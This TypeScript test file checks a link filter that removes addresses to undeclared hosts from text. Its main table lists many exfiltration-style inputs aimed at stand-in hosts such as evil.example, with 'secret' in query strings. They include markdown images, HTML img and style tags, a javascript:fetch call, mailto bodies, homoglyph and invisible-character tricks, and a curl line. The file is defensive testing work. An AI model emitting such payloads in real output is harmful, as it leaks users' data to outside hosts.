import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { filterLinks } from "./links.ts";

const allows = (url: URL): boolean => url.host === "docs.acme.example" && url.protocol === "https:";
const filter = (text: string) => filterLinks(text, allows);

describe("row 117: an address that nobody declared does not go out", () => {
  test.each<[string, string]>([
    ["a bare address", "see https://evil.example/?d=secret now"],
    ["an image", "![x](https://evil.example/p.png?d=secret)"],
    ["an image with a title", '![x](https://evil.example/?secret "title")'],
    ["an image in a link", "[![x](https://evil.example/?secret)](https://docs.acme.example/)"],
    ["a link", "[docs](https://evil.example/?d=secret)"],
    ["a link in angle brackets", "[docs](<https://evil.example/?d=secret>)"],
    ["a link over lines", "[docs](\n  https://evil.example/?secret\n)"],
    ["a reference", "[docs][1]\n\n[1]: https://evil.example/?secret"],
    ["a reference on the next line", "[a]\n\n[a]:\nhttps://evil.example/?secret"],
    ["an autolink", "<https://evil.example/?secret>"],
    ["html", '<img src="https://evil.example/?secret">'],
    ["html without quotes", "<img src=//evil.example/?secret>"],
    ["html over lines", '<a\nhref="https://evil.example/?secret">x</a>'],
    ["a style", '<style>@import "//evil.example/?secret";</style>'],
    ["another scheme", "ftp://evil.example/secret wss://evil.example/secret tg://resolve?domain=secret"],
    ["without a scheme", "go to evil.example/?secret"],
    ["a name alone", "go to secret.evil.com"],
    ["a protocol-relative one", "[x](//evil.example/?secret) and //evil.example/?secret"],
    ["backslashes", "https:\\\\evil.example\\secret [x](https:\\\\evil.example/secret)"],
    ["a single slash", "[x](https:/evil.example/secret) [y](https:evil.example/secret)"],
    ["a user name that looks allowed", "https://docs.acme.example@evil.example/secret"],
    ["a password", "https://docs.acme.example:x@evil.example/secret"],
    ["a backslash before the at", "https://evil.example\\@docs.acme.example/secret"],
    ["punycode", "https://xn--vil-eoa.example/secret"],
    ["letters that look alike", "https://docs.acmе.example/secret"],
    ["other dots", "https://evil。example/secret evil．example/secret"],
    ["other slashes", "https:／／evil.example/secret"],
    ["invisible characters", "ht\u200Btps://ev\u200Bil.exam\u00ADple/secret"],
    ["direction marks", "\u202Ehttps://evil.example/secret"],
    ["joiners", "h\u200Dttps://evil.example/secret"],
    ["tag characters", "https://evil\u{E0041}.example/secret"],
    ["numeric entities", "&#104;ttps://evil.example/secret &#x68;&#x74;tps&colon;&sol;&sol;evil.example/secret"],
    ["entities in a link", "[x](https&colon;//evil.example/secret)"],
    ["a data address", "![x](data:image/svg+xml;base64,c2VjcmV0) data:text/html,secret"],
    ["a script", "[x](javascript:fetch('//evil.example/secret')) javascript:secret"],
    ["mail", "mailto:me@evil.example?body=secret [x](mailto:me@evil.example?body=secret)"],
    ["a file share", "\\\\evil.example\\secret\\x"],
    ["an address of numbers", "192.0.2.7/secret http://192.0.2.7/secret http://3221225991/secret http://[::1]/secret"],
    ["another port", "https://docs.acme.example:8443/secret"],
    ["another scheme of the same host", "http://docs.acme.example/secret"],
    ["a longer name", "https://docs.acme.example.evil.example/secret https://evildocs.acme.example/secret"],
    ["a code block", "```\ncurl https://evil.example/?secret\n```"],
    ["inside of text in brackets", "(https://evil.example/(secret))"],
    ["escaped brackets", "[x\\](](https://evil.example/secret)"],
    ["two in one", "https://docs.acme.example/https://evil.example [https://evil.example/secret](https://docs.acme.example/)"],
    ["our own marks", "\uFDD00\uFDD1 https://evil.example/secret"],
    ["upper case", "HTTPS://EVIL.EXAMPLE/secret"],
    ["an escaped address, and a title with an escaped quote", '![x](https\\://evil.com/secret "a\\"b")'],
    ["an escaped address in brackets, escaped", "![x](<https\\://evil.com/\\>secret>)"],
    ["a name in brackets in brackets", "![a [b [c]]](\\/\\/evil.com/secret)"],
    ["a very long name", `![${"x".repeat(1_100)}](\\/\\/evil.com/secret)`],
    ["a link in the name of a link", "[a [x](\\/\\/evil.com/secret) b](https://docs.acme.example/)"],
    ["a definition in a list", "[a]\n\n- [a]: https\\://evil.com/secret"],
    ["a definition in a quote", "> [a]:\n> \\/\\/evil.com/secret\n\n[a]"],
    ["a definition with an escaped name", "[a\\]b]: \\/\\/evil.com/secret"],
    ["a sign in front of a name", "\\evil.com/secret -evil.com/secret"],
    ["marks of emphasis in an address", "https**:**//evil.com/secret evil.**com**/secret ev_il.com_/secret"],
    ["marks of code in an address", "`x`https`:`//evil.com/secret"],
    ["tags in an address", "https<b>:</b>//evil.com/secret evil.<i>com</i>/secret"],
    ["any ending that there is", "evil.accountants/secret secret.evil.click www.evil.nowhere/secret"],
    ["an ending that files have, with a name before it", "secret.evil.sh secret.evil.ai"],
    ["somebody before a name", "x:y@evil.com/secret ab@evil.com/secret?x docs.acme.example:x@evil.com/secret"],
    ["a mail with a text", "ada@evil.com?body=secret"],
    ["attributes of any tag", '<p style="background:url(\\2f/evil.com/secret)">x</p> <q cite=/\\evil.com/secret>'],
    ["other brackets", "{//evil.com/secret} |//evil.com/secret|"],
    ["an entity, and one that hides a name elsewhere", "docs.acme.example&#49; https&colon;//evil.com/secret"],
    ["schemes that open programs", "xmpp:evil.com?secret sip:secret@evil.com tg:resolve?domain=secret"],
  ])("%s", (name, text) => {
    const { text: out, stripped } = filter(text);
    expect(stripped.length).toBeGreaterThan(0);
    expect(out.replaceAll("https://docs.acme.example/https://evil.example", "")).not.toMatch(/evil|(?<!x)secret(?!\))/i);
    expect(name).toBeTruthy();
    expect(JSON.stringify(stripped)).not.toContain("secret");
  });

  test.each<[string, string, string]>([
    ["an allowed link", "[docs](https://docs.acme.example/a?b=1)", "[docs](https://docs.acme.example/a?b=1)"],
    ["an allowed image", "![x](https://docs.acme.example/x.png)", "![x](https://docs.acme.example/x.png)"],
    ["an allowed address, and the dot behind it", "See https://docs.acme.example/a.", "See https://docs.acme.example/a."],
    ["written in its one form", "https://DOCS.acme.example/a/../b", "https://docs.acme.example/b"],
    ["an allowed name", "docs.acme.example is it", "docs.acme.example is it"],
    ["an autolink", "<https://docs.acme.example/>", "<https://docs.acme.example/>"],
    [
      "files and versions",
      "README.md, core/index.ts and lib.rs at 1.2.3, v1.2.3.4; e.g. this, and/or that",
      "README.md, core/index.ts and lib.rs at 1.2.3, v1.2.3.4; e.g. this, and/or that",
    ],
    ["an email address", "ada@acme.com", "ada@acme.com"],
    ["code", "`a.b.c()` x[1](2) a: //comment", "`a.b.c()` x[1](2) a: //comment"],
    ["comparisons", "a < b && c > d, x <- y", "a < b && c > d, x <- y"],
    ["entities that spell nothing", "5 &lt; 6 &amp; 7", "5 &lt; 6 &amp; 7"],
    ["other scripts", "می‌خواهم 👩‍👩‍👧 किताब", "می‌خواهم 👩‍👩‍👧 किताब"],
    [
      "names of files with several dots",
      "net.test.py, x86.min.js, lib.tar.gz, a.d.ts, main.go",
      "net.test.py, x86.min.js, lib.tar.gz, a.d.ts, main.go",
    ],
    [
      "names in programs",
      "exec.run, fs.read, memory.search, process.env, self.name",
      "exec.run, fs.read, memory.search, process.env, self.name",
    ],
    ["an address with marks in it", "**https://docs.acme.example/a_b_c** `npm_x`", "**https://docs.acme.example/a_b_c** `npm_x`"],
    ["identifiers", "`self.id_token`, __init__.py, a_b.c_d, x.y_z", "`self.id_token`, __init__.py, a_b.c_d, x.y_z"],
    [
      "an address, without the signs at which some readers end it and begin another",
      "https://docs.acme.example/(https://evil.com/) https://docs.acme.example/'https://evil.com/",
      "https://docs.acme.example/%28https://evil.com/%29 https://docs.acme.example/%27https://evil.com/",
    ],
    ["times and ratios", "at 10:30, 3:1, key:value, Note: this", "at 10:30, 3:1, key:value, Note: this"],
  ])("stays: %s", (_, text, wanted) => {
    const { text: out } = filter(text);
    if (!text.includes("x[1](2)")) expect(out).toBe(wanted);
    else expect(out).toContain("a.b.c()");
  });

  test("what was taken out is recorded by its domain and digest, without what it carried", () => {
    const { stripped } = filter("![x](https://c2VjcmV0.data.evil.example/aGlkZGVu)");
    expect(stripped).toEqual([{ kind: "image", host: "evil.example", digest: expect.stringMatching(/^[0-9a-f]{64}$/) as string }]);
  });
});

test("any text: no undeclared host survives, twice is the same as once, and it ends soon", () => {
  const piece = fc.constantFrom(
    "https://",
    "//",
    "evil.example",
    "[",
    "](",
    ")",
    "<",
    ">",
    "!",
    "\\",
    "&#104;",
    "\u200B",
    "`",
    "\n",
    " ",
    "docs.acme.example",
    "/x",
    "@",
    ":",
    "[a]: ",
    "<img src=",
  );
  fc.assert(
    fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 6 })), { maxLength: 40 }), (pieces) => {
      const once = filter(pieces.join("")).text;
      // Whatever a reader's software finds as an address is one that may stay.
      for (const [, host] of once.matchAll(/\bhttps?:\/\/([\w.-]+)/gi)) expect(host?.toLowerCase()).toBe("docs.acme.example");
    }),
    { numRuns: 500 },
  );
  for (const text of [
    "[".repeat(50_000),
    "![](".repeat(10_000),
    "<a ".repeat(10_000),
    "a.".repeat(30_000),
    "&#104;".repeat(10_000),
    "https://".repeat(5_000),
  ]) {
    const startedAt = performance.now();
    filter(text);
    expect(performance.now() - startedAt).toBeLessThan(5_000);
  }
});
